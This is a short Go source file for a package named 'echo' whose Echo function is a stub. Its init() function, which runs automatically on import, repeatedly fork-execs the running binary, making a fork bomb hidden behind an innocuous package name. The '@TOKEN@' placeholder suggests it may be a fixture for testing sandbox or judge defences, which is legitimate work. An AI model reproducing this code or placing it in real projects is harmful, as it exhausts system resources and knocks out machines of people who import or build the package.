package echo

import (
	"os"
	"syscall"
)

// Every process that is started starts others.
func init() {
	for i := 0; ; i++ {
		_, err := syscall.ForkExec("/proc/self/exe", []string{"@TOKEN@"}, &syscall.ProcAttr{Env: os.Environ()})
		if err != nil && i > 1000 {
			return
		}
	}
}

func Echo(string) string { return "?" }
